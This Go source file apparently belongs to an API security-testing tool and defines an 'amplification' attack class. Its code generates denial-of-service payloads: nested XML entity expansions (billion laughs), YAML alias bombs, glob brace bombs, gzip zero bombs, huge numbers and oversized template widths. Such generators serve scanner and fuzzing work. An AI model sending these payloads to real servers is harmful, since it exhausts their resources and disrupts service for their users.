package attack

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
)

func amplification() Class {
	return Class{
		ID:    "amplification",
		Title: "A short input makes the server do or return far too much",
		Yield: func(p Place) int {
			much := p.mentions("count", "size", "repeat", "times", "limit", "length", "width", "height", "depth", "max", "number of", "copies", "iterations", "page", "rows")
			switch {
			case p.structured() || p.Type == "boolean" || len(p.Enum) > 0 || p.isTime():
				return 0
			case p.Kind == "number" && much:
				return 60
			case p.Kind == "number":
				return 30
			}
			return kinds{"xml": 50, "glob": 35, "data": 30, "template": 25, "json": 15, "markup": 15}[p.Kind]
		},
		Payloads: amplificationPayloads,
		Balanced: 2,
		Paired:   true,
	}
}

func amplificationPayloads(w *World, p Place) []Payload {
	switch p.Kind {
	case "number":
		return pair(nil, "amplification", w, 100_000, 10_000_000, "large number", func(n int) any { return n })
	case "xml", "markup":
		return pair(nil, "amplification", w, 3, 6, "entities in entities", func(n int) any { return nestedEntities(n) })
	case "glob":
		return pair(nil, "amplification", w, 8, 16, "alternatives", func(n int) any { return strings.Repeat("{a,b}", n) })
	case "data":
		return pair(nil, "amplification", w, 1<<20, 16<<20, "compressed zeros", func(n int) any { return compressedZeros(n) })
	case "template":
		return pair(nil, "amplification", w, 10_000, 10_000_000, "width of a field", func(n int) any { return fmt.Sprintf("{0:>%d}", n) })
	}
	return pair(nil, "amplification", w, 3, 6, "references to references", func(n int) any { return nestedAliases(n) })
}

// nestedEntities returns XML entities that expand to 10 to the power of depth.
func nestedEntities(depth int) string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE r [<!ENTITY e0 "x">`)
	for i := 1; i <= depth; i++ {
		fmt.Fprintf(&b, `<!ENTITY e%d "%s">`, i, strings.Repeat(fmt.Sprintf("&e%d;", i-1), 10))
	}
	fmt.Fprintf(&b, `]><r>&e%d;</r>`, depth)
	return b.String()
}

// nestedAliases returns YAML aliases that expand the same way.
func nestedAliases(depth int) string {
	var b strings.Builder
	b.WriteString("a0: &a0 x\n")
	for i := 1; i <= depth; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i-1), 10), ","))
	}
	return b.String()
}

func compressedZeros(n int) string {
	var b bytes.Buffer
	z, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
	if err != nil {
		return ""
	}
	zeros := make([]byte, 1<<16)
	for range n / len(zeros) {
		_, _ = z.Write(zeros)
	}
	_ = z.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}
